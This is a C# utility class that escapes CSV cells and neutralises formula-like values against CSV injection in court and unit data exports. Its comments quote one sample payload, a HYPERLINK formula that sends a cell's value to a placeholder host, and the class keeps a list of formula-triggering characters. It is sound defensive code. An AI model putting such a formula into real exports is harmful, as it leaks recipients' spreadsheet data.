using System.Buffers;
using System.Text;

namespace Shixin.Server.Http;

/// <summary>
/// The one way the platform writes a CSV text cell (daily export, batch results, hub tables, quarterly report):
/// RFC 4180 quoting, and a cell a spreadsheet would run as a formula made plain text, as OWASP's "CSV Injection"
/// advice recommends (issue 11 F6). Names, case numbers and notes come from courts, units and the public; a name
/// such as <c>=HYPERLINK("http://x/?"&amp;A1)</c> must reach the unit's Excel or WPS as text, never as a formula.
/// Numbers and dates the platform formats itself are written directly.
/// </summary>
public static class CsvText
{
    // OWASP: cells starting with = + - @ tab or carriage return are read as formulas (or DDE) by Excel, WPS and
    // LibreOffice; a leading single quote makes the spreadsheet show the text as it is.
    private static readonly SearchValues<char> FormulaStart = SearchValues.Create("=+-@\t\r");

    // A field with a separator, a quote or a line break is quoted. The semicolon is included because spreadsheets in
    // locales whose list separator is ';' would otherwise split the cell there and start a new one with the rest.
    private static readonly SearchValues<char> NeedsQuotes = SearchValues.Create(",;\"\r\n");

    /// <summary>True when a spreadsheet would take the cell for a formula.</summary>
    public static bool IsFormulaLike(ReadOnlySpan<char> value) => value.Length > 0 && FormulaStart.Contains(value[0]);

    /// <summary>The cell as written in a CSV line: neutralised when formula-like, quoted when it needs quotes.</summary>
    public static string Cell(string? value)
    {
        if (string.IsNullOrEmpty(value))
        {
            return string.Empty;
        }

        var formula = IsFormulaLike(value);
        if (!formula && value.AsSpan().IndexOfAny(NeedsQuotes) < 0)
        {
            return value;
        }

        // Neutralised cells are always quoted too (OWASP: prefix the quote, wrap in double quotes, double any quote).
        return "\"" + (formula ? "'" : string.Empty) + value.Replace("\"", "\"\"", StringComparison.Ordinal) + "\"";
    }

    /// <summary>Appends the cell (see <see cref="Cell"/>) to a line being built.</summary>
    public static StringBuilder AppendCell(this StringBuilder line, string? value) => line.Append(Cell(value));

    /// <summary>A whole line of cells joined by commas, ending in CRLF.</summary>
    public static string Line(params ReadOnlySpan<string?> cells)
    {
        var sb = new StringBuilder();
        for (var i = 0; i < cells.Length; i++)
        {
            if (i > 0)
            {
                sb.Append(',');
            }

            sb.AppendCell(cells[i]);
        }

        return sb.Append("\r\n").ToString();
    }
}
